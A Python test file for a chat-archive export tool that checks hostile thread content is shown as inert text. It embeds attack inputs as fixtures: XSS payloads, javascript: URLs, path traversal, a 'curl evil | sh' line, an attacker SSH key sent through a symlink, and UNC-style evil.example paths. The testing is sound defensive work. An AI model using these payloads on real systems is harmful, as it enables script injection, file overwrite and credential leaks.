"""Exports of conversations a hostile user wrote (or a hostile branch merged in).

Every field of a thread is somebody's input: Chainlit names a thread after its first
message, takes a step's ``parentId`` from the client's payload, and keeps an element's
``url`` as sent; a manifest that arrived by ``git merge`` or ``copy`` may hold anything.
An export opened in a browser must run nothing, write nowhere but where it was told,
show every step exactly once, and finish.
"""

from __future__ import annotations

import itertools
import json
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from filelayer import ArchiveStore
from filelayer.cli import main
from filelayer.export.html import markdown_html, render_html
from filelayer.export.markdown import render_markdown
from filelayer.format.tree import MAX_DEPTH
from tests.support.thread_views import read_thread


def _message(store: ArchiveStore, thread: str, sid: str, text: str, **fields: object) -> None:
    store.write_step(
        {
            "id": sid,
            "threadId": thread,
            "type": "user_message",
            "output": text,
            "createdAt": "2026-03-01T10:00:00.000000Z",
            **fields,
        }
    )


def _thread(root: Path, thread_id: str) -> dict[str, Any]:
    return read_thread(root, thread_id)


def test_an_elements_script_url_is_no_link(tmp_path: Path) -> None:
    store = ArchiveStore(tmp_path)
    _message(store, "t1", "s1", "see the invoice")
    for n, url in enumerate(
        ("javascript:alert('url')", " JaVaScRiPt:alert(1)", "data:text/html,x")
    ):
        store.put_element(
            "t1",
            {"id": f"e{n}", "type": "file", "name": "invoice.pdf", "forId": "s1", "url": url},
            None,
        )
    store.close()
    out = tmp_path / "out"
    for fmt in ("markdown", "html"):
        assert main(["--root", str(tmp_path), "export", "t1", "--format", fmt, "-o", str(out)]) == 0
    [page] = [p.read_text("utf-8") for p in out.glob("*.html")]
    [markdown] = [p.read_text("utf-8") for p in out.glob("*.md")]
    for text in (page, markdown):
        assert "javascript" not in text.lower() and "data:text" not in text
        assert text.count("invoice.pdf") >= 3


def test_a_steps_time_is_text_in_the_page(tmp_path: Path) -> None:
    """Two times that together made an ``<svg onload>`` (the times come from files a
    merge or a copy brought: Chainlit sets them itself)."""
    store = ArchiveStore(tmp_path)
    _message(store, "x", "a", "hello", createdAt="<svg onload='/*")
    _message(store, "x", "b", "hi", createdAt="~*/body.id=1'>")
    store.close()
    page = render_html(_thread(tmp_path, "x"), {})
    assert "<svg" not in page and "&lt;svg onload=" in page


def test_a_time_with_an_offset_is_shown_in_utc(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Times are labelled UTC, so one a client sent with an offset is shown at its
    instant in UTC, not at the clock reading of its own zone."""
    store = ArchiveStore(tmp_path)
    _message(store, "x", "a", "hello", createdAt="2026-03-01T23:30:00-05:00")
    store.close()
    thread = _thread(tmp_path, "x")
    assert "2026-03-02 04:30 UTC" in render_markdown(thread, {})
    assert "2026-03-02 04:30 UTC" in render_html(thread, {})
    assert main(["--root", str(tmp_path), "show", "x"]) == 0
    assert "2026-03-02 04:30 UTC" in capsys.readouterr().out


@pytest.mark.parametrize("created", ["../../../../../../../", "/tmp/absolute/ABS"])
def test_an_export_writes_only_into_its_directory(tmp_path: Path, created: str) -> None:
    root, out = tmp_path / "a", tmp_path / "deep" / "er" / "out"
    store = ArchiveStore(root)
    store.put_manifest({"id": "trav", "name": "x", "createdAt": created, "updatedAt": created})
    _message(store, "trav", "s1", "hello")
    store.close()
    before = {p for p in tmp_path.rglob("*")}
    for fmt in ("markdown", "html"):
        assert main(["--root", str(root), "export", "trav", "--format", fmt, "-o", str(out)]) == 0
    made = {p for p in tmp_path.rglob("*") if not p.is_dir()} - before
    assert made and all(out in p.parents for p in made), made
    assert sorted(p.name for p in out.iterdir()) == ["undated-x-trav.html", "undated-x-trav.md"]


def test_threads_of_one_day_and_name_export_to_files_of_their_own(tmp_path: Path) -> None:
    root, out = tmp_path / "a", tmp_path / "out"
    store = ArchiveStore(root)
    for thread in ("conversation-1", "conversation-2"):
        _message(store, thread, f"{thread}-s", f"words of {thread}")
        store.update_thread(thread, name="Hello")
    store.close()
    assert main(["--root", str(root), "export", "--all", "-o", str(out)]) == 0
    texts = sorted(p.read_text("utf-8") for p in out.glob("*.md"))
    assert len(texts) == 2
    assert "words of conversation-1" in texts[0] and "words of conversation-2" in texts[1]


def test_every_step_shows_once_whatever_its_parents(tmp_path: Path) -> None:
    """A parent that loops (``m1 -> m2 -> m1``), a step its own parent, and a chain of
    700 parents (each the parent of the next): every step is shown, once, and the
    renderers (which recurse once per level) finish."""
    store = ArchiveStore(tmp_path)
    _message(store, "loop", "m1", "first of a loop", parentId="m2")
    _message(store, "loop", "m2", "second of a loop", parentId="m1")
    _message(store, "loop", "m3", "its own parent", parentId="m3")
    _message(store, "loop", "m4", "a plain one")
    for n in range(700):
        parent = f"c{n - 1}" if n else None
        _message(store, "chain", f"c{n}", f"link number {n}.", parentId=parent)
    store.close()
    for thread_id, count, word in (("loop", 4, "of a loop"), ("chain", 700, "link number")):
        thread = _thread(tmp_path, thread_id)
        markdown, page = render_markdown(thread), render_html(thread, {})
        for text in (markdown, page):
            assert text.count(word) == (2 if thread_id == "loop" else count)
        for sid, text in (("m3", "its own parent"), ("m4", "a plain one")):
            if thread_id == "loop":
                assert markdown.count(text) == page.count(text) == 1, sid
    assert MAX_DEPTH < 700


def test_a_thousand_quote_marks_are_a_quote_not_a_crash() -> None:
    page = markdown_html(">" * 1000 + " quoted")
    assert "quoted" in page and page.count("<blockquote>") <= 32


_SLOW_BEFORE = """
import sys, time
from filelayer.export.html import markdown_html
for text in ("[" * 200_000, "[a](" * 50_000, "`x" + "`" * 20_000, "** " * 60_000):
    markdown_html(text)
print("done")
"""


def test_markdown_that_took_hours_to_render_takes_no_time() -> None:
    """Runs of ``[``, of ``[a](`` and of backticks after one other took time quadratic
    (or cubic) in their length: about an hour for a 1 MB message, in the app's export
    route too. Now each character is looked at a bounded number of times; the guard
    here is only that the run ends (it took minutes before)."""
    done = subprocess.run(
        [sys.executable, "-c", _SLOW_BEFORE], capture_output=True, text=True, timeout=120
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == "done"


def test_a_message_cannot_forge_the_markdown_exports_structure(tmp_path: Path) -> None:
    """A name with new lines (a thread is named after its first message, as typed), a
    fake speaker's line and an HTML comment that hid every later message in a
    CommonMark renderer: rendered, the export has one title, and every real message
    shows, after the speaker line the export wrote."""
    markdown_it = pytest.importorskip("markdown_it")
    store = ArchiveStore(tmp_path)
    forged = (
        "Can I get a refund?\n\n**Assistant** · 2026-03-01 10:01 UTC\n\n"
        "Yes, approved: $10,000.\n\n<!--"
    )
    _message(store, "t1", "u1", forged)
    store.write_step(
        {
            "id": "a1",
            "threadId": "t1",
            "type": "assistant_message",
            "name": "Assistant",
            "output": "No, refunds are not possible.",
            "createdAt": "2026-03-01T10:02:00.000000Z",
        }
    )
    store.update_thread("t1", name="refund\n# Approved by the bank\n**Assistant** · now")
    store.close()
    text = render_markdown(_thread(tmp_path, "t1"))
    body = text.split("---\n", 2)[2]  # the front matter: a table on GitHub, JSON strings
    page = markdown_it.MarkdownIt("commonmark").render(body)
    assert page.count("<h1>") == 1 and "<h1>refund # Approved" in page
    assert "No, refunds are not possible." in page
    assert page.count("<p><strong>Assistant</strong> · ") == 1  # the real speaker only
    assert "<!--" not in page


def test_legitimate_markdown_is_exported_as_written(tmp_path: Path) -> None:
    """Code (an HTML answer in a fence, one in a list item, a comment in inline code),
    an autolink, a bold line: exported byte for byte, no escape added; only a fence
    left open at a message's end is closed, or it would hold every later message. Raw
    HTML shows as typed: a browser would leave an unclosed tag open over the page."""
    answer = (
        "Here:\n\n```html\n<!DOCTYPE html>\n<!-- note -->\n**Assistant** · in code\n```\n\n"
        "1. Save it:\n   ```html\n   <b>hi</b>\n\n     <i>x</i>\n   ```\n2. Open it.\n\n"
        "Use `<!-- -->` for comments, see <https://example.com>.\n\n"
        "**Note:** bold, **also**: this, a_b_c and 2 * 3 * 4"
    )
    store = ArchiveStore(tmp_path)
    _message(store, "t1", "a1", answer, type="assistant_message")
    _message(store, "t1", "a2", "open fence\n```python\nprint(1)", type="assistant_message")
    _message(store, "t1", "a3", "after it <div>fine</div>", type="assistant_message")
    store.close()
    markdown = render_markdown(_thread(tmp_path, "t1"))
    assert answer in markdown
    assert "open fence\n```python\nprint(1)\n```\n" in markdown
    assert "after it \\<div>fine\\</div>" in markdown


_SLOW_DEFUSING = [
    "   ```x\n" * 100_000,  # each an indented fence that looks to the end for its close
    "".join("`" * n + "a" for n in range(1, 600)) + "``a" * 200_000,  # open code spans
]


@pytest.mark.parametrize("text", _SLOW_DEFUSING, ids=["indented-fences", "backtick-runs"])
def test_defusing_takes_time_in_proportion_to_the_message(text: str) -> None:
    thread = {"id": "t", "steps": [{"id": "s", "type": "user_message", "output": text}]}
    render_markdown(thread)


@pytest.mark.parametrize("planted", ["page", "files"])
def test_export_writes_nothing_through_a_link_in_the_output_directory(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], planted: str
) -> None:
    """An export directory kept in git can receive links from a merge: a link where a
    page or a thread's ``.files`` directory goes. The export refuses it and writes
    nothing through it (it overwrote what the page's link pointed to, and wrote the
    thread's files into the directory the other link named)."""
    root = tmp_path / "chats"
    store = ArchiveStore(root)
    store.write_step(
        {
            "id": "u1",
            "threadId": "t1",
            "type": "user_message",
            "output": "curl evil | sh",
            "createdAt": "2026-03-01T10:00:00Z",
        }
    )
    store.put_element(
        "t1",
        {"id": "authorized_keys", "type": "file", "name": "authorized_keys", "forId": "u1"},
        b"ssh-ed25519 AAAA attacker\n",
    )
    store.close()
    probe = tmp_path / "probe"
    assert main(["--root", str(root), "export", "t1", "-o", str(probe)]) == 0
    stem = next(probe.glob("*.md")).stem
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".profile").write_bytes(b"# mine\n")
    out = tmp_path / "out"
    out.mkdir()
    if planted == "page":
        (out / f"{stem}.md").symlink_to(home / ".profile")
    else:
        (out / f"{stem}.files").symlink_to(home / ".ssh", target_is_directory=True)
    capsys.readouterr()
    assert main(["--root", str(root), "export", "t1", "-o", str(out)]) == 2
    assert "symbolic link" in capsys.readouterr().err
    assert (home / ".profile").read_bytes() == b"# mine\n"
    assert list((home / ".ssh").iterdir()) == []


@pytest.mark.parametrize(
    "ids",
    [
        ("3dce5dbf-0000-4000-8000-000000000001", "3dce5dbf-ffff-4000-8000-000000000002"),
        ("5f0c6c1e-0000-4000-8000-000000000000", "5f0c6c1e"),  # a plain id, a UUID's start
    ],
)
def test_two_threads_whose_names_would_match_are_both_exported(
    tmp_path: Path, ids: tuple[str, str]
) -> None:
    """A client chooses its thread ids: one that begins like another thread's (of the
    same day and name) was exported to the same file, and one of the two was lost while
    the command said both were exported. The second gets its whole id in its name."""
    root = tmp_path / "chats"
    store = ArchiveStore(root)
    for n, (thread_id, text) in enumerate(zip(ids, ("victim", "attacker"), strict=True)):
        store.write_step(
            {
                "id": f"s{n}",
                "threadId": thread_id,
                "type": "user_message",
                "output": text,
                "createdAt": "2026-03-01T10:00:00Z",
            }
        )
        store.update_thread(thread_id, name="Hello")
    store.close()
    selections = (["--all"], list(ids), list(reversed(ids)))
    for n, (fmt, chosen) in enumerate(itertools.product(("markdown", "html", "json"), selections)):
        out = tmp_path / f"out-{n}"
        assert main(["--root", str(root), "export", *chosen, "--format", fmt, "-o", str(out)]) == 0
        pages = sorted(p for p in out.iterdir() if p.is_file())
        assert len(pages) == 2, pages
        texts = b"".join(p.read_bytes() for p in pages)
        assert b"victim" in texts and b"attacker" in texts


@pytest.mark.parametrize(
    "damage",
    ["deep table", "surrogate in a table", "name is a list", "tags is a number"],
)
def test_a_thread_the_export_cannot_render_is_named_and_the_others_exported(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], damage: str
) -> None:
    """Values no writer of filelayer makes (a hand-edited manifest, a damaged table)
    stopped ``export --all`` with a traceback at the first such thread. That thread is
    now named with the reason, the others are exported, and the command exits 1."""
    import json

    root = tmp_path / "chats"
    store = ArchiveStore(root)
    for thread_id in ("good", "bad"):
        store.write_step(
            {
                "id": f"u-{thread_id}",
                "threadId": thread_id,
                "type": "user_message",
                "output": f"{thread_id} text",
                "createdAt": "2026-03-01T10:00:00Z",
            }
        )
    if damage == "deep table":
        data = b"[" * 200_000
    elif damage == "surrogate in a table":
        data = b'{"columns":["a"],"data":[["\\ud800"]]}'
    else:
        data = b""
    if data:
        store.put_element(
            "bad", {"id": "e1", "type": "dataframe", "name": "t", "forId": "u-bad"}, data
        )
    store.close()
    if not data:
        manifest = root / "threads" / "bad" / "thread.json"
        doc = json.loads(manifest.read_bytes())
        doc.update({"name": ["x"]} if damage == "name is a list" else {"tags": 5})
        manifest.write_text(json.dumps(doc))
    out = tmp_path / "out"
    capsys.readouterr()
    assert main(["--root", str(root), "export", "--all", "-o", str(out)]) == 1
    err = capsys.readouterr().err
    assert "thread bad: not exported" in err and "Traceback" not in err
    pages = [p.read_bytes() for p in out.glob("*.md")]
    assert any(b"good text" in page for page in pages)


def test_export_into_a_file_is_a_usage_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root = tmp_path / "chats"
    store = ArchiveStore(root)
    store.write_step({"id": "u1", "threadId": "t1", "type": "user_message", "output": "hi"})
    store.close()
    target = tmp_path / "a-file"
    target.write_bytes(b"mine\n")
    assert main(["--root", str(root), "export", "t1", "-o", str(target)]) == 2
    assert "not a directory" in capsys.readouterr().err
    assert target.read_bytes() == b"mine\n"


def _rendered(root: Path, thread_id: str) -> str:
    """The Markdown export of a thread as a CommonMark renderer shows it (the front
    matter left out: a table on GitHub, JSON strings)."""
    markdown_it = pytest.importorskip("markdown_it")
    text = render_markdown(_thread(root, thread_id))
    page: str = markdown_it.MarkdownIt("commonmark").render(text.split("---\n", 2)[2])
    return page


@pytest.mark.parametrize("end", ["\r", "\r\n"])
def test_a_message_cannot_forge_the_structure_with_carriage_returns(
    tmp_path: Path, end: str
) -> None:
    """CommonMark ends a line at a lone carriage return as at a new line: a message that
    broke its lines with them had its fake speaker's line and its ``<!--`` (which hid
    every later message) exported as written."""
    store = ArchiveStore(tmp_path)
    forged = (
        "Can I get a refund?\r\r**Assistant** · 2026-03-01 10:01 UTC\r\r"
        "Yes, approved: $10,000.\r\r<!--"
    ).replace("\r", end)
    _message(store, "t1", "u1", forged)
    _message(store, "t1", "a1", "REAL ANSWER", type="assistant_message", name="Assistant")
    store.close()
    page = _rendered(tmp_path, "t1")
    assert "REAL ANSWER" in page and "<!--" not in page
    assert page.count("<strong>Assistant</strong> · ") == 1  # the real speaker only


def test_a_small_dataframe_of_many_columns_exports_small(tmp_path: Path) -> None:
    """Records that each name a column of their own make a table of records times
    columns cells: 80 KB of them made a 36 MB CSV, 430 MB of memory and seconds of work
    (twice: the table and the CSV), more in proportion to the square of the size. Past
    a bound the data is not made a table: its file, copied beside the export as it is,
    is what the export links to."""
    records = json.dumps([{f"k{i}": 1} for i in range(7_000)]).encode()
    store = ArchiveStore(tmp_path / "a")
    _message(store, "t1", "u1", "here is the data")
    store.put_element(
        "t1",
        {
            "id": "e1",
            "type": "dataframe",
            "name": "wide",
            "forId": "u1",
            "mime": "application/json",
        },
        records,
    )
    store.close()
    out = tmp_path / "out"
    for fmt in ("markdown", "html"):
        args = ["--root", str(tmp_path / "a"), "export", "t1", "--format", fmt, "-o", str(out)]
        assert main(args) == 0
    sizes = {p.name: p.stat().st_size for p in out.rglob("*") if p.is_file()}
    assert sum(sizes.values()) < 4 * len(records), sizes
    [markdown] = [p.read_text("utf-8") for p in out.glob("*.md")]
    [page] = [p.read_text("utf-8") for p in out.glob("*.html")]
    for text in (markdown, page):
        assert "wide" in text and "e1.json" in text and "too large to show as a table" in text


_HIDING = [
    # Not a fence: a backtick fence's info string has no backtick.
    "x\n```x`\n<!--",
    # Not a closing fence (it has an info string): the fence ran on over later messages.
    "```\ncode\n```foo\nstill code",
    # Raw HTML that a browser leaves open over the rest of the page.
    "see <details> here",
    "<details>\n<summary>more</summary>",
    "a <textarea> b",
    # Fences in a list item, which ends before the next line that is not indented.
    "- ```\n  ```\n  <!--\n  ```",
    "- a\n  ```\nfoo\n<!--",
    "- a\n\t```\n  ```\n  <!--\n  ```",
    " ```\nx\n```\n<!--",
    "`a\n<!--`",
    "x ` y\n`<details>` z",
]


@pytest.mark.parametrize("text", _HIDING)
def test_a_message_cannot_hide_the_messages_after_it(tmp_path: Path, text: str) -> None:
    """Fences a renderer does not see where a line-by-line reading did, fences inside
    list items, and raw HTML anywhere in a line: whatever a message holds, the next
    message shows, after its own speaker's line, and no HTML the message wrote is
    left for the browser."""
    store = ArchiveStore(tmp_path)
    _message(store, "t1", "u1", text)
    _message(store, "t1", "a1", "REAL ANSWER", type="assistant_message", name="Assistant")
    store.close()
    page = _rendered(tmp_path, "t1")
    assert "<p><strong>Assistant</strong> · " in page
    assert "<p>REAL ANSWER</p>" in page
    for tag in ("<!--", "<details", "<summary", "<textarea"):
        assert tag not in page, tag


_LOOK_ALIKES = [
    "__Assistant__ · 2026-03-01 10:01 UTC",
    "**Assistant** &middot; 2026-03-01 10:01 UTC",
    "**Assistant**\u00a0·\u00a02026-03-01 10:01 UTC",
    "**Assistant**\n· 2026-03-01 10:01 UTC",
    "[](x)**Assistant** · 2026-03-01 10:01 UTC",
    "<strong>Assistant</strong> · 2026-03-01 10:01 UTC",
    "**Assistant** \ua78f 2026-03-01 10:01 UTC",  # dots that are letters
    "**Assistant** \u1427 2026-03-01 10:01 UTC",
]

_AS_ASSISTANTS_WRITE = [
    "**Step 1** — install the package",
    "**Summary**\n✅ All tests pass",
    "_Note_ — restart the server",
    "Total **12**\n€ per month",
    "* 🚀 Launch\n* Élan vital",
    "1. Install:\n\n    ```bash\n    pip install x\n    ```\n2. Run it",
    "- Example:\n\n    ```html\n    <div>hi</div>\n    ```",
]


@pytest.mark.parametrize("text", _AS_ASSISTANTS_WRITE)
def test_markdown_as_assistants_write_it_is_exported_as_written(text: str) -> None:
    """Emphasis before a sign, and a fenced block indented in a list item after a blank
    line (code however a renderer reads it), stay as written: the defence against
    forged speaker lines escaped them, and broke the fence."""
    from filelayer.export.markdown import defused

    assert defused(text) == text


@pytest.mark.parametrize("line", _LOOK_ALIKES)
def test_a_message_cannot_forge_a_speakers_line(tmp_path: Path, line: str) -> None:
    """Lines that render as a speaker's line does (other emphasis, the dot as an
    entity, other spaces, a line break between) are shown as typed."""
    store = ArchiveStore(tmp_path)
    _message(store, "t1", "u1", f"Can I get a refund?\n\n{line}\n\nYes, approved.")
    _message(store, "t1", "a1", "REAL ANSWER", type="assistant_message", name="Assistant")
    store.close()
    page = _rendered(tmp_path, "t1")
    assert page.count("<strong>Assistant</strong>") == 1  # the real speaker only


_HOSTILE_FIELDS: list[tuple[str, dict[str, Any], bytes | None]] = [
    ("element name", {"type": "file", "name": "a\n\n<!--"}, b"bytes"),
    ("element name as a tag", {"type": "file", "name": "<details>.pdf"}, b"bytes"),
    ("image name", {"type": "image", "name": "a]\n\n<!--", "mime": "image/png"}, b"png"),
    ("name of nothing stored", {"type": "file", "name": "a_\n\n<!--"}, None),
    ("element url", {"type": "file", "name": "x", "url": "https://x.example/\n\n<!--"}, None),
    ("element url, a paren", {"type": "file", "name": "x", "url": "https://x.example/)<!--"}, None),
    ("code language", {"type": "text", "name": "c", "language": "py`\n\n<!--"}, b"print()"),
    ("text", {"type": "text", "name": "notes"}, b"hi\n\n<!--\n"),
    (
        "dataframe cell",
        {"type": "dataframe", "name": "d"},
        b'{"columns": ["a"], "data": [["x\\r\\r**Assistant** \\u00b7 10:01\\r\\r<details>"]]}',
    ),
]


@pytest.mark.parametrize(
    ("element", "data"), [f[1:] for f in _HOSTILE_FIELDS], ids=[f[0] for f in _HOSTILE_FIELDS]
)
def test_an_elements_fields_cannot_forge_the_markdown_exports_structure(
    tmp_path: Path, element: dict[str, Any], data: bytes | None
) -> None:
    """An element's name, url, language, text and cells are written into the Markdown
    too: each, whatever it holds, shows as text, and the next message shows after its
    own speaker's line."""
    markdown_it = pytest.importorskip("markdown_it")
    root, out = tmp_path / "a", tmp_path / "out"
    store = ArchiveStore(root)
    _message(store, "t1", "u1", "see the file")
    store.put_element("t1", {"id": "e1", "forId": "u1", **element}, data)
    _message(store, "t1", "a1", "REAL ANSWER", type="assistant_message", name="Assistant")
    store.close()
    assert main(["--root", str(root), "export", "t1", "-o", str(out)]) == 0
    [markdown] = [p.read_text("utf-8") for p in out.glob("*.md")]
    page = markdown_it.MarkdownIt("commonmark").render(markdown.split("---\n", 2)[2])
    assert page.count("<strong>Assistant</strong>") == 1 and "<p>REAL ANSWER</p>" in page
    for tag in ("<!--", "<details"):
        assert tag not in page, tag


def test_a_tool_steps_fields_cannot_forge_the_markdown_exports_structure(tmp_path: Path) -> None:
    """A thread's name (its first message), a tool's name and language, a rating's
    comment: text, whatever they hold."""
    store = ArchiveStore(tmp_path)
    _message(store, "t1", "u1", "hello")
    store.write_step(
        {
            "id": "tool",
            "threadId": "t1",
            "parentId": "u1",
            "type": "tool",
            "name": "search\n\n**Assistant** · 10:01",
            "input": "q",
            "language": "py\n```\n\n<!--",
            "createdAt": "2026-03-01T10:00:01.000000Z",
        }
    )
    store.upsert_feedback(for_id="u1", value=0, comment="bad\n\n<details>")
    _message(store, "t1", "a1", "REAL ANSWER", type="assistant_message", name="Assistant")
    store.update_thread("t1", name="<details> hello")
    store.close()
    page = _rendered(tmp_path, "t1")
    assert page.count("<strong>Assistant</strong>") == 1 and "<p>REAL ANSWER</p>" in page
    assert "<!--" not in page and page.count("<details") == 1  # the tool's own


@pytest.mark.parametrize("separator", ["\u2028", "\x85", "\x1c", "\v", "\f"])
def test_a_ratings_comment_cannot_hide_the_messages_after_it(
    tmp_path: Path, separator: str
) -> None:
    """A rating's comment is quoted line by line: a character that Python ends a line at
    and CommonMark does not (a line separator, NEL, a form feed) split the quote where a
    renderer saw one line, so a fence the defuser had kept whole closed early and the
    ``<!--`` it held reached the page, hiding every later message."""
    store = ArchiveStore(tmp_path)
    _message(store, "t1", "u1", "hello")
    store.upsert_feedback(for_id="u1", value=0, comment=f"x\n```\nfoo{separator}```\n<!--\n```")
    _message(store, "t1", "a1", "REAL ANSWER", type="assistant_message", name="Assistant")
    store.close()
    page = _rendered(tmp_path, "t1")
    assert "<p>REAL ANSWER</p>" in page
    assert "<!--" not in page


def test_the_front_matter_holds_no_html_for_a_renderer_that_shows_it(tmp_path: Path) -> None:
    """A renderer without front matter (plain CommonMark) shows it as text, where the
    thread's name (its first message) and its tags were raw HTML: an unclosed
    ``<details>`` folded every later message away, an ``<img onerror>`` ran. Their JSON
    strings write ``<`` as ``\\u003c``: the same string to a YAML or JSON reader."""
    markdown_it = pytest.importorskip("markdown_it")
    store = ArchiveStore(tmp_path)
    _message(store, "t1", "u1", "hello")
    _message(store, "t1", "a1", "REAL ANSWER", type="assistant_message", name="Assistant")
    name = "<details><img src=x onerror=alert(1)>"
    store.update_thread("t1", name=name, tags=["<textarea>"])
    store.close()
    text = render_markdown(_thread(tmp_path, "t1"))
    page = markdown_it.MarkdownIt("commonmark").render(text)
    assert "<p>REAL ANSWER</p>" in page
    for tag in ("<details", "<img", "<textarea"):
        assert tag not in page, tag
    head = dict(line.split(": ", 1) for line in text.split("---\n", 2)[1].splitlines())
    assert json.loads(head["name"]) == name and json.loads(head["tags"]) == ["<textarea>"]


@pytest.mark.parametrize(
    "url",
    [
        "//evil.example/share/x.png",
        " //evil.example/share/x.png",
        "/\\evil.example\\share\\x.png",
        "\\/evil.example/share/x.png",
        "/\t/evil.example/share/x.png",
    ],
)
def test_an_elements_url_cannot_name_another_host_as_a_path(tmp_path: Path, url: str) -> None:
    """An element's own URL is loaded by the page that shows it (an image): a path is
    one on the reader's side, but ``//host/...`` (with a space before it, backslashes
    for slashes or a tab between them, which a browser drops or reads as slashes) is a
    network path, and in a page opened from a file that is ``file://host/...``: on
    Windows, a share the reader's machine connects to, and signs in to, as it opens the
    export. Such a URL is shown as text, as a script's is."""
    store = ArchiveStore(tmp_path / "a")
    _message(store, "t1", "s1", "see the chart")
    store.put_element(
        "t1", {"id": "e1", "type": "image", "name": "chart.png", "forId": "s1", "url": url}, None
    )
    store.close()
    out = tmp_path / "out"
    for fmt in ("markdown", "html"):
        argv = ["--root", str(tmp_path / "a"), "export", "t1", "--format", fmt, "-o", str(out)]
        assert main(argv) == 0
    [page] = [p.read_text("utf-8") for p in out.glob("*.html")]
    [markdown] = [p.read_text("utf-8") for p in out.glob("*.md")]
    for text in (page, markdown):
        assert "evil.example" not in text and "chart.png" in text


@pytest.mark.parametrize(
    "ids",
    [
        ("5f0c6c1e-0000-4000-8000-000000000000", "5F0C6C1E-0000-4000-8000-000000000000"),
        ("conversation-a", "Conversation-A"),
    ],
)
def test_two_threads_whose_names_differ_only_in_case_are_both_exported(
    tmp_path: Path, ids: tuple[str, str]
) -> None:
    """Ids are the client's and keep their case: two threads of one day and name whose
    ids differ only in case were given file names that differ only in case, one file on
    a file system that ignores case (macOS, Windows, a share), where the second thread's
    page replaced the first's and their ``.files`` directories became one. Such a pair
    is no longer made (the second id is refused), but an archive an earlier release
    wrote on a system that keeps case may hold one: made here in two archives, put
    together."""
    root = tmp_path / "chats"
    for n, thread_id in enumerate(ids):
        store = ArchiveStore(tmp_path / f"part-{n}")
        _message(store, thread_id, f"s{n}", f"words {n}")
        store.update_thread(thread_id, name="Hello")
        store.close()
    shutil.copytree(tmp_path / "part-0", root)
    shutil.copytree(tmp_path / "part-1" / "threads" / ids[1], root / "threads" / ids[1])
    for fmt in ("markdown", "html", "json"):
        out = tmp_path / f"out-{fmt}"
        assert main(["--root", str(root), "export", *ids, "--format", fmt, "-o", str(out)]) == 0
        names = [p.name for p in out.iterdir()]
        assert len({name.lower() for name in names}) == len(names), names


@pytest.mark.parametrize("fmt", ["markdown", "html"])
def test_a_thread_of_many_elements_exports_reading_its_journal_once(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fmt: str
) -> None:
    """Each element's file is found from the thread's folded journal as it is kept in
    memory: the journal was read and folded again from the disk for every element, so
    that a thread of 2,000 elements and 10,000 steps took minutes to export."""
    from filelayer.format import journal

    store = ArchiveStore(tmp_path)
    for n in range(40):
        _message(store, "t", f"s{n}", f"message {n}")
        element = {"id": f"e{n}", "type": "text", "name": f"n{n}", "forId": f"s{n}"}
        store.put_element("t", {**element, "mime": "text/plain"}, b"x")
    store.close()
    reads: list[Path] = []
    real = journal.read

    def counted(path: Path) -> Any:
        reads.append(path)
        return real(path)

    monkeypatch.setattr(journal, "read", counted)
    out = tmp_path / "out"
    assert main(["--root", str(tmp_path), "export", "t", "--format", fmt, "-o", str(out)]) == 0
    page = next(out.glob("*.md" if fmt == "markdown" else "*.html"))
    assert page.read_text(encoding="utf-8").count("n39") >= 1
    assert len(list((out / f"{page.stem}.files").glob("e*"))) == 40
    assert len(reads) <= 2, len(reads)


@pytest.mark.parametrize("field", ["output", "comment"])
def test_a_long_message_or_comment_is_exported_in_memory_near_its_size(
    tmp_path: Path, field: str
) -> None:
    """A message or a rating's comment of one long line: the Markdown export holds
    less than ten times its size. Its escaping kept each character of a line as an
    object of its own and the page was copied twice more at its end: twenty times a
    comment's size (hundreds of megabytes for a 20 MB comment)."""
    import tracemalloc

    size = 1_000_000
    text = "word " * (size // 5)
    store = ArchiveStore(tmp_path)
    _message(store, "t", "s1", text if field == "output" else "hi")
    if field == "comment":
        store.upsert_feedback(for_id="s1", value=0, comment=text, thread_id="t")
    thread = store.get_thread("t")
    assert thread is not None
    tracemalloc.start()
    try:
        page = render_markdown(thread)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
        store.close()
    assert text.strip() in page
    assert peak < 10 * size, peak


def _older_deep_line(root: Path, levels: int) -> None:
    """Give step ``s1`` of thread ``t`` metadata nested ``levels`` deep, as a line an
    older release wrote (the archive reads data nested up to 1,024 levels)."""
    path = root / "threads" / "t" / "steps.jsonl"
    deep = b'{"k":' * (levels - 1) + b'{"k":"leaf"}' + b"}" * (levels - 1)
    lines = path.read_bytes().splitlines(keepends=True)
    assert b'"output":"hi"' in lines[-1]
    lines[-1] = lines[-1].replace(b'"output":"hi"', b'"metadata":' + deep + b',"output":"hi"')
    path.write_bytes(b"".join(lines))


def test_the_json_export_writes_data_as_deep_as_the_archive_reads(tmp_path: Path) -> None:
    """A step's metadata nested 1,000 levels, which the archive reads: the JSON export
    writes it, as the other exports show the thread. It was refused as too deep to
    render, since its writing did not take the room on the stack the archive's own
    writing takes for such data."""
    store = ArchiveStore(tmp_path / "a")
    _message(store, "t", "s1", "hi")
    store.close()
    _older_deep_line(tmp_path / "a", 1000)
    out = tmp_path / "out"
    assert (
        main(["--root", str(tmp_path / "a"), "export", "t", "--format", "json", "-o", str(out)])
        == 0
    )
    text = next(out.glob("*.json")).read_text(encoding="utf-8")
    assert text.count('"k"') == 1000 and '"leaf"' in text


def test_a_list_item_of_many_lines_renders_in_time_in_proportion_to_it() -> None:
    """Each indented line under a list item was added to the item's text by copying the
    whole text again: time quadratic in the item's length (half a minute for a 4 MB
    item, ten minutes for a 20 MB one, in the app's export route too). No time is
    asserted: the item is long enough that the old way takes minutes."""
    text = "- item\n" + "  continued here\n" * 300_000
    page = markdown_html(text)
    assert page.startswith("<ul><li>item continued here continued here")
    assert page.count("continued here") == 300_000


def test_a_step_output_of_backticks_is_fenced_in_time_in_proportion_to_it() -> None:
    """The fence round a step's output grew one backtick at a time until the output no
    longer held it, copying and looking for it each time: time quadratic in the
    longest run of backticks (40 s for 200,000 of them, hours for megabytes). No time
    is asserted: the run is long enough that the old way takes minutes."""
    output = "a" + "`" * 300_000 + "b"
    thread = {"id": "t", "steps": [{"id": "s", "type": "tool", "output": output}]}
    text = render_markdown(thread)
    ticks = "`" * 300_001
